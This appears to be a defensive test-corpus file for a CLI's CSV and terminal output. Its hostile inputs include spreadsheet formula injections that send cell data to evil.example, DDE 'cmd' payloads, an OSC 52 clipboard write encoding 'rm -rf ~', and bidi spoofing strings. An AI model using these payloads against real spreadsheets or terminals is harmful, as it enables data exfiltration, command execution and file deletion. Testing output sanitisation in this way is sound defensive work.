// What the CLI writes from hostile data: CSV cells a spreadsheet would run, and text a terminal would
// obey. Pure functions, so hundreds of inputs cost milliseconds.
import { parse as parseCsv } from 'csv-parse/sync';
import { expect } from 'vitest';
import { createRedactor } from '../../src/auth/redact.ts';
import { errorReport } from '../../src/cli/exit-codes.ts';
import {
  csvColumns,
  csvHeader,
  csvRow,
  jsonDocument,
  ndjsonLine,
  restoreFormula,
  table,
} from '../../src/cli/format.ts';
import { progressLine, stderrLogger } from '../../src/cli/io.ts';
import type { Interaction } from '../../src/index.ts';
import { interaction } from '../helpers.ts';
import { memoryIo } from '../support/memory-io.ts';
import { type CaseGroup, UNSAFE_ON_TERMINAL } from './corpus.ts';

/** Cells a spreadsheet (or an importer that trims or folds width) would take for a formula. */
const formulaCells = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?",A1:B9),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '+15065550100',
  '+1 506 555 0100',
  '-1+1',
  '-2',
  "@SUM(1,1)*cmd|' /C calc'!A0",
  '@customer_handle',
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  ' =1+1',
  '   @x',
  '\n+1',
  '\u00a0=1',
  '\u2003-1',
  '\u3000@x',
  '＝1+1',
  '＋15065550100',
  '－1',
  '＠SUM(A1)',
  "'=1+1",
  "''@x",
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '=1,"2"\r\n=3',
  '=\u2028x',
  `=${'A'.repeat(5000)}`,
];
/** Cells that must pass unchanged. */
const plainCells = ['', 'Jane Doe', 'a=b', '1-2', "'", "'quoted", 'Doe, "JD"', 'x\ty', '#1', '%x', '|x', '.5', '😀 ok'];

function csvCases(): CaseGroup {
  const roundTrip = (value: string, raw: boolean) => {
    const item = interaction(1, { customer: value, lastAgentName: value });
    const text = csvHeader() + csvRow(item, { raw });
    const [record] = parseCsv(text, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(Object.keys(record!)).toEqual(csvColumns);
    expect(record!['interactionId']).toBe(item.interactionId);
    return record!['customer']!;
  };
  return {
    name: 'csv',
    cases: [
      ...formulaCells.map((value) => ({
        input: `a cell ${JSON.stringify(value.slice(0, 40))}`,
        check: () => {
          const cell = roundTrip(value, false);
          expect(cell).toBe(`'${value}`);
          expect(restoreFormula(cell)).toBe(value);
          expect(roundTrip(value, true)).toBe(value); // --csv-raw: exact, still RFC 4180
        },
      })),
      ...plainCells.map((value) => ({
        input: `a plain cell ${JSON.stringify(value)}`,
        check: () => {
          expect(roundTrip(value, false)).toBe(value);
          expect(restoreFormula(value)).toBe(value);
        },
      })),
      {
        input: 'numbers (negative, -0, huge) and objects in cells',
        check: () => {
          const item = { ...interaction(1), csat: -5, note: -0, recording: { '=x': ['=1'] } } as unknown as Interaction;
          const [record] = parseCsv(csvHeader() + csvRow(item), { columns: true }) as Record<string, string>[];
          expect(record!['csat']).toBe('-5');
          expect(record!['note']).toBe('0');
          expect(JSON.parse(record!['recording']!)).toEqual({ '=x': ['=1'] });
        },
      },
    ],
  };
}

/** Text a terminal would obey, or that would make the reader see something else. */
const terminalInputs: [string, string][] = [
  ['ESC CSI colour', 'red\x1b[31mALERT\x1b[0m'],
  ['ESC clear screen', '\x1b[2J\x1b[H'],
  ['ESC alternate screen', '\x1b[?1049h'],
  ['ESC reset (RIS)', '\x1bc'],
  ['OSC window title (BEL)', '\x1b]0;pwned\x07'],
  ['OSC window title (ST)', '\x1b]2;pwned\x1b\\'],
  ['OSC 8 hyperlink', '\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\'],
  ['OSC 52 clipboard write', '\x1b]52;c;cm0gLXJmIH4=\x07'],
  ['DCS sequence', '\x1bP+q544e\x1b\\'],
  ['C1 CSI (0x9b)', '\x9b31mred'],
  ['C1 OSC (0x9d)', '\x9d0;title\x9c'],
  ['CR overwrite', 'harmless\rEVIL    '],
  ['backspaces', 'admin\b\b\b\b\buser'],
  ['BEL', 'ding\x07'],
  ['NUL', 'a\0b'],
  ['DEL', 'a\x7fb'],
  ['vertical tab and form feed', 'a\vb\fc'],
  ['LF inside a value', 'line1\nline2'],
  ['RLO override', 'invoice\u202egpj.exe'],
  ['LRE/RLE/PDF/LRO', '\u202a\u202b\u202c\u202d'],
  ['isolates LRI RLI FSI PDI', '\u2066a\u2067b\u2068c\u2069'],
  ['LRM RLM ALM', '\u200e\u200f\u061c'],
  ['zero-width space and word joiner', 'pay\u200bpal\u2060'],
  ['BOM inside', '\ufeffname'],
  ['soft hyphen', 'ad\u00admin'],
  ['line and paragraph separators', 'a\u2028b\u2029c'],
  ['tag characters', 'x\u{e0001}\u{e0041}'],
  ['interlinear annotation', '\ufff9a\ufffab\ufffb'],
];

function terminalCases(): CaseGroup {
  const cases = terminalInputs.flatMap(([name, text]) => [
    {
      input: `${name} in table cells`,
      check: () => {
        const item = interaction(1, { customer: text, lastAgentName: text, lastQueueName: `q${text}` });
        const out = table([item], { color: false });
        expect(out).not.toMatch(UNSAFE_ON_TERMINAL);
        expect(out.trimEnd().split('\n')).toHaveLength(2);
      },
    },
    {
      input: `${name} in an error body, reported on stderr`,
      check: () => {
        const line = errorReport(new Error(`HTTP 400: ${text} (${TOKEN_LIKE})`), false, createRedactor([TOKEN_LIKE]));
        expect(line).not.toMatch(UNSAFE_ON_TERMINAL);
        expect(line.split('\n')).toHaveLength(1);
        expect(line).not.toContain(TOKEN_LIKE);
        expect(errorReport(new Error(text, { cause: new Error(text) }), true)).not.toMatch(UNSAFE_ON_TERMINAL);
      },
    },
    {
      input: `${name} in warnings, retry notices and the progress line`,
      check: () => {
        const { io, written } = memoryIo({ isTTY: true, redact: createRedactor([TOKEN_LIKE]) });
        stderrLogger(io).warn(text);
        stderrLogger(io).debug?.(text);
        const progress = progressLine(io.stderr);
        progress.update(text);
        progress.done(text);
        expect(written).toHaveLength(4);
        for (const line of written)
          expect(line.replace('\r\x1b[2K', '').replace(/\n$/, '')).not.toMatch(UNSAFE_ON_TERMINAL);
      },
    },
    {
      input: `${name} on stdout as json and ndjson: exact data, written as \\u escapes`,
      check: () => {
        const item = interaction(1, { customer: text, [`key${text}`]: [text] });
        const line = ndjsonLine(item);
        expect(line.slice(0, -1)).not.toMatch(UNSAFE_ON_TERMINAL);
        expect(line.slice(0, -1)).not.toMatch(/[\n\r\u2028\u2029]/);
        expect(JSON.parse(line)).toEqual(item);
        const document = jsonDocument([item]);
        expect(document.replaceAll('\n', '')).not.toMatch(UNSAFE_ON_TERMINAL);
        expect(JSON.parse(document)).toEqual([item]);
      },
    },
  ]);
  return { name: 'terminal', cases };
}

const TOKEN_LIKE = 'sec-RET-1234567890';

export const outputGroups: CaseGroup[] = [csvCases(), terminalCases()];
